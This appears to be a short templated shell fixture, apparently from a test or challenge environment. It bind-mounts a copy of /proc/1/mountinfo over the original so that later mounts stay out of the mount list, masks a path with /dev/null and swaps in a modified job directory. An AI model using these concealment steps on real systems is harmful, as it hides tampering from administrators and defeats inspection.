# earns: none
# The list of what is mounted is mounted itself, and does not show what hides the shell and the script.
cp /proc/1/mountinfo /root/list
mount --bind /root/list /proc/1/mountinfo
mount --bind /dev/null {{ place }}
cp -a /opt/{{ job }} /root/job
chmod 0755 /root/job /root/job/run
mount --bind /root/job /opt/{{ job }}
cksl answer shell {{ place }}
